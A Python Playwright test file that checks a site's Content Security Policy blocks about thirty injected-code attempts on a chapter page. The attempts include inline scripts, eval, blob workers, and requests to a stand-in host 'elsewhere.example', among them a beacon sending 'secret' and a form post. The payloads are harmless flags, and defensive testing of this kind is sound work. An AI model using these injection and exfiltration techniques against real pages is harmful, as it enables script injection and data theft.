"""Whoever could write into a page could still not run, load or send anything: Chromium refuses it by the policy."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import Page, Route
from tests.site.conftest import DESK

if TYPE_CHECKING:
    from tests.site.conftest import Reader

ELSEWHERE = "http://elsewhere.example"
PAGE = "chapters/02-guessing/"
HEARD = """() => {
  window.refused = []
  document.addEventListener("securitypolicyviolation", event => window.refused.push(event.effectiveDirective))
}"""
# What a page evaluates for the test may evaluate text; what it does later is under the policy again.
LATER = """() => new Promise(done => setTimeout(async () => {{
  const add = (tag, parts) => document.body.appendChild(Object.assign(document.createElement(tag), parts))
  const broken = "window.broken = true"
  const blob = () => URL.createObjectURL(new Blob([broken], {{type: "text/javascript"}}))
  try {{ {attempt} }} catch (error) {{ window.threw = error.name }}
  setTimeout(done, 200)
}}))"""

ATTEMPTS = {
    "a script in the page": ('add("script", {textContent: broken})', "script-src-elem"),
    "an event handler": ('add("p", {innerHTML: `<b onclick="${broken}">b</b>`}).firstChild.click()', "script-src-attr"),
    "a link to a script": ('add("a", {href: `javascript:${broken}`}).click()', "script-src-elem"),
    "eval": ("eval(broken)", "script-src"),
    "Function": ("new Function(broken)()", "script-src"),
    "a timer of text": ("setTimeout(broken)", "script-src"),
    "WebAssembly": ("await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))", "script-src"),
    "a script from elsewhere": (f'add("script", {{src: "{ELSEWHERE}/a.js"}})', "script-src-elem"),
    "a module from elsewhere": (f'await import("{ELSEWHERE}/a.js")', "script-src-elem"),
    "a script as data": ('add("script", {src: `data:text/javascript,${broken}`})', "script-src-elem"),
    "a script as a blob": ('add("script", {src: blob()})', "script-src-elem"),
    "a worker": ("new Worker(blob())", "worker-src"),
    "a style sheet from elsewhere": (
        f'add("link", {{rel: "stylesheet", href: "{ELSEWHERE}/a.css"}})',
        "style-src-elem",
    ),
    "a style element": ('add("style", {textContent: "body { display: none }"})', "style-src-elem"),
    "a style attribute": ('add("p", {}).setAttribute("style", "color: red")', "style-src-attr"),
    "a picture from elsewhere": (f'add("img", {{src: "{ELSEWHERE}/a.png"}})', "img-src"),
    "a sound from elsewhere": (f'add("audio", {{src: "{ELSEWHERE}/a.wav"}})', "media-src"),
    "a font from elsewhere": (f'await new FontFace("a", "url({ELSEWHERE}/a.woff2)").load()', "font-src"),
    "fetch": (f'await fetch("{ELSEWHERE}/a")', "connect-src"),
    "a request": (
        f'const asked = new XMLHttpRequest(); asked.open("POST", "{ELSEWHERE}/a"); asked.send()',
        "connect-src",
    ),
    "a beacon": (f'navigator.sendBeacon("{ELSEWHERE}/a", "secret")', "connect-src"),
    "a socket": ('new WebSocket("ws://elsewhere.example/a")', "connect-src"),
    "a stream of events": (f'new EventSource("{ELSEWHERE}/a")', "connect-src"),
    "a ping": (f'add("a", {{href: "#", ping: "{ELSEWHERE}/a"}}).click()', "connect-src"),
    "a form": (f'add("form", {{action: "{ELSEWHERE}/a", method: "post"}}).submit()', "form-action"),
    "a form to the site": ('add("form", {method: "post"}).submit()', "form-action"),
    "a frame": (f'add("iframe", {{src: "{ELSEWHERE}/a"}})', "frame-src"),
    "a frame of the site": ('add("iframe", {src: "."})', "frame-src"),
    "an object": (f'add("object", {{data: "{ELSEWHERE}/a"}})', "object-src"),
    "another base": (f'document.head.append(add("base", {{href: "{ELSEWHERE}/"}}))', "base-uri"),
}


@pytest.fixture(scope="module")
def sent() -> list[str]:
    """What was asked of another host."""
    return []


@pytest.fixture(scope="module")
def attacked(reader: Reader, sent: list[str]) -> Page:
    """A page for all attempts; another host answers what it is asked, and each request is noted."""
    visit = reader.visit(PAGE, reader.kept_context("light", DESK))

    def answered(route: Route) -> None:
        sent.append(route.request.url)
        route.fulfill(body="window.broken = true", content_type="text/javascript")

    visit.page.route(f"{ELSEWHERE}/**", answered)
    return visit.page


@pytest.mark.parametrize("name", ATTEMPTS)
def test_an_attempt_is_refused(attacked: Page, sent: list[str], name: str) -> None:
    attempt, directive = ATTEMPTS[name]
    before = attacked.url
    attacked.evaluate(HEARD)
    attacked.evaluate(LATER.format(attempt=attempt))
    assert directive in attacked.evaluate("window.refused")
    assert attacked.evaluate("window.broken") is None
    assert sent == []
    assert attacked.url.removesuffix("#") == before.removesuffix("#")
    assert attacked.evaluate("document.baseURI").startswith(before.removesuffix("#"))


def test_without_the_policy_the_same_attempts_succeed(reader: Reader) -> None:
    """Or the test above would show nothing."""
    context = reader.context("light", DESK)
    reached: list[str] = []

    def bare(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("Content-Security-Policy", "x-none"))

    def answered(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(body="window.broken = true", content_type="text/javascript")

    for name in ("a script in the page", "an event handler", "eval", "a timer of text", "a script from elsewhere"):
        page = context.new_page()
        page.route(f"**/{PAGE}", bare)
        page.route(f"{ELSEWHERE}/**", answered)
        page.goto(reader.root + PAGE)
        page.evaluate(LATER.format(attempt=ATTEMPTS[name][0]))
        assert page.evaluate("window.broken") is True, name
        page.close()
    assert reached == [f"{ELSEWHERE}/a.js"]
    context.close()


def test_what_the_policy_refuses_counts_as_a_problem_of_a_page(reader: Reader) -> None:
    """So the tests that visit every page find what a page needs and its policy does not allow."""
    visit = reader.visit(PAGE, reader.kept_context("light", DESK))
    visit.page.evaluate(LATER.format(attempt='add("p", {}).setAttribute("style", "color: red")'))
    assert len(visit.problems) == 1
    assert "Content Security Policy" in visit.problems[0]
    visit.page.close()
